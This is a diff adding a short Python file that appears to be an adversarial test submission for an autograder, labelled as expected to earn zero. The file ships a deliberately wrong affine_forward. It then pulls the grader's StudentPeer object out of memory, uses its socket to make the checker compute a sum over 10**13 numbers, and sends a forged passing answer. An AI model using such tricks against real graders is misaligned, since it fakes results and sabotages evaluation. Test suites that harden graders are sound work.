@@ -1,0 +1,18 @@
+# TRIES: have the checker add up numbers for a day | DESERVES: 0
+def affine_forward(x, w, b):  # wrong on purpose
+    return np.full((x.shape[0], w.shape[1]), 123.0)
+import gc
+[peer] = [one for one in gc.get_objects() if type(one).__name__ == "StudentPeer"]
+channel = peer.channel
+
+import json, struct
+def frame(message, data=b"", size=None, text=None):
+    text = json.dumps(message).encode() if text is None else text
+    return struct.pack(">4sIQ", b"csl1", len(text), len(data) if size is None else size) + text + data
+
+def answer(message, data, deadline=None):
+    question = ["t", ["g", "builtins", "sum"], ["t", ["r", 0, 10**13, 1]], ["d"]]
+    channel.sock.sendall(frame({"ask": 1, "do": "call", "values": question}))
+    channel.receive()
+    channel.sock.sendall(frame({"answer": message["ask"], "changed": None, "value": ["t", True, 1.0]}))
+peer.answer = answer
